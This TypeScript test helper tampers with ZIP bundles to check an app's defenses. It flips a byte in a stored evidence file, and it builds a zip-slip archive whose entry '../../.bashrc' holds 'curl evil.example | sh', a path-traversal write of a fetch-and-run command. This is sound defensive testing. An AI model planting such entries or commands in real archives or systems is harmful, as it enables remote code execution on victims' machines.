/**
 * Doing to a bundle what an attacker or a bad disk would: flip one byte of a stored file's content, or build a
 * ZIP whose entry escapes the folder it is unpacked into. Written against the ZIP format itself (central directory,
 * local headers) so the tests do not trust the app's own reader to find what they change.
 */
import { execFileSync } from 'node:child_process';

const EOCD = 0x06054b50;
const CENTRAL = 0x02014b50;

/** Where each entry's data starts and how long it is, from the central directory. */
export function zipEntries(zip: Buffer): Map<string, { dataStart: number; size: number; method: number }> {
  let eocd = zip.length - 22;
  while (eocd >= 0 && zip.readUInt32LE(eocd) !== EOCD) eocd--;
  if (eocd < 0) throw new Error('not a ZIP: no end of central directory');
  const count = zip.readUInt16LE(eocd + 10);
  let at = zip.readUInt32LE(eocd + 16);
  const entries = new Map<string, { dataStart: number; size: number; method: number }>();
  for (let i = 0; i < count; i++) {
    if (zip.readUInt32LE(at) !== CENTRAL) throw new Error(`bad central directory entry ${i}`);
    const method = zip.readUInt16LE(at + 10);
    const size = zip.readUInt32LE(at + 20);
    const nameLength = zip.readUInt16LE(at + 28);
    const extraLength = zip.readUInt16LE(at + 30);
    const commentLength = zip.readUInt16LE(at + 32);
    const local = zip.readUInt32LE(at + 42);
    const name = zip.toString('utf8', at + 46, at + 46 + nameLength);
    const dataStart = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    entries.set(name, { dataStart, size, method });
    at += 46 + nameLength + extraLength + commentLength;
  }
  return entries;
}

/** A copy of the bundle with one byte changed in the middle of the first stored evidence file; returns its path. */
export function flipEvidenceByte(zip: Buffer): { altered: Buffer; path: string } {
  for (const [path, entry] of zipEntries(zip)) {
    if (!path.startsWith('evidence/') || entry.method !== 0 || entry.size === 0) continue;
    const altered = Buffer.from(zip);
    const at = entry.dataStart + Math.floor(entry.size / 2);
    altered[at] = (altered[at] ?? 0) ^ 0x01;
    return { altered, path };
  }
  throw new Error('the bundle holds no stored evidence file to alter');
}

/** A ZIP with a manifest and an entry named to land outside the folder it is unpacked into. */
export function zipSlipBundle(path: string): void {
  execFileSync('python3', [
    '-c',
    [
      'import sys, zipfile',
      "z = zipfile.ZipFile(sys.argv[1], 'w')",
      'z.writestr(\'manifest.json\', \'{"format": "casegraph-bundle", "version": 1}\')',
      "z.writestr('../../.bashrc', 'curl evil.example | sh')",
      'z.close()',
    ].join('\n'),
    path,
  ]);
}
